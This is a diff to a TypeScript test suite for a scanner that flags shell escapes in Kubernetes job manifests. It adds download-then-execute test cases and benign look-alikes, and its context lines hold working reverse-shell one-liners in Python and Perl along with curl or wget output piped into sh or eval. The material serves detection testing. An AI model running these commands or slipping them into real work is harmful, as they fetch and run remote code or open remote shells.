@@ -38,6 +38,11 @@ const REVERSE_SHELLS: Array<[string, string, RegExp]> = [
   ['sh -c "$(curl …)"', 'sh -c "$(curl -fsSL http://x)"', /download piped/],
   ['eval "$(wget …)"', 'eval "$(wget -qO- http://x)"', /download piped/],
   ['source <(curl …)', 'source <(curl -s http://x)', /download piped/],
+  ['a download saved and run', 'wget -qO /tmp/x http://198.51.100.7/x; /tmp/x --daemon', /runs a file it downloaded/],
+  ['a download saved under its own name and run from there', 'cd /tmp && wget http://198.51.100.7/kit && ./kit', /runs a file it downloaded/],
+  ['curl -fsSLo then sh', 'curl -fsSLo /tmp/i.sh http://x/i.sh && sh /tmp/i.sh', /runs a file it downloaded/],
+  ['curl -O then python', 'curl -sO http://x/run.py && python3 run.py', /runs a file it downloaded/],
+  ['curl > file then bash', 'curl -s http://x/s > /tmp/s; bash /tmp/s', /runs a file it downloaded/],
   ['python reverse shell', `python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);p=subprocess.call(["/bin/sh","-i"])'`, /reverse-shell one-liner/],
   ['python3 pty reverse shell', `python3 -c 'import os,pty,socket;s=socket.socket();s.connect(("10.0.0.1",4242));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")'`, /reverse-shell one-liner/],
   ['perl reverse shell', `perl -e 'use Socket;$i="10.0.0.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};'`, /reverse-shell one-liner/],
@@ -86,6 +91,8 @@ const LOOK_ALIKES: Array<[string, string]> = [
   ['nc as a port check', 'until nc -z db 5432; do sleep 1; done'],
   ['ncat listening without exec', 'ncat -l 8080 --keep-open'],
   ['curl saving to a file', 'curl -fsSL -o /tmp/report.json http://api/report'],
+  ['a downloaded data file read by a script', 'curl -fsSL -o /tmp/report.json http://api/report && cat /tmp/report.json && python3 /app/summarise.py /tmp/report.json'],
+  ['wget to standard output, then a same-named program', 'wget -qO- http://api/kit | jq . ; kit --version'],
   ['curl piped into jq and grep', 'curl -s http://api/health | jq .status | grep -q ok'],
   ['a download piped into a script file run by sh', 'curl -s http://x | sh /scripts/consume.sh'],
   ['python with socket but no process', `python3 -c 'import socket; print(socket.gethostname())'`],
@@ -206,6 +213,21 @@ describe('shell-escape reporting', () => {
       assert.ok(found.every((f) => f.severity === 'error'), JSON.stringify(found.map((f) => f.message)));
     });
   }
+
+  test('an init container that downloads what the main container runs (shared volume)', () => {
+    const text = job(
+      [
+        'restartPolicy: Never',
+        'initContainers:',
+        '- {name: fetch, image: "curlimages/curl:8.8.0", args: [-fsSL, -o, /work/agent, "http://198.51.100.7/agent"]}',
+        'containers:',
+        '- {name: main, image: r/main, command: [/work/agent]}',
+      ].join('\n'),
+    );
+    const [finding] = findingsOf(text, 'shell-escape');
+    assert.equal(finding.path, `${JOB_POD_SPEC}/containers/0/command/0`);
+    assert.equal(finding.evidence, 'curl -fsSL -o /work/agent http://198.51.100.7/agent … /work/agent');
+  });
 
   test('seed profile keeps shell-escape (it is clause 2)', async () => {
     const { analyseManifest, DEFAULT_CONFIG } = await import('../src/index.js');
